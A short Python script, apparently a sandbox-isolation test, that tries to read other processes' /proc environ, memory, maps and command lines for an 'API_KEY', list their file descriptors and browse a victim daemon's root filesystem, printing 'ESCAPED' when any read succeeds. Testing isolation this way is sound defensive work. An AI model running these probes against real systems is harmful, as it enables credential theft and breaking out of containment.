import ctypes, json, os, resource, signal, socket, subprocess, sys, threading, time
V = json.load(open("victim.json"))
def esc(*a): print("ESCAPED", *a, flush=True)
def t(f):
    try: return f()
    except BaseException as e: print("  no:", repr(e)[:100], flush=True)
L = ctypes.CDLL(None, use_errno=True)

for p in (1, os.getppid(), V["daemon"]):
    for n in ("environ", "mem", "maps", "cmdline"):
        t(lambda: b"API_KEY" in open(f"/proc/{p}/{n}", "rb").read(1 << 20) and esc(p, n))
    t(lambda: os.listdir(f"/proc/{p}/fd") and p == V["daemon"] and esc("descriptors"))
    t(lambda: p == V["daemon"] and os.listdir(f"/proc/{p}/root/etc") and esc("root of the daemon"))
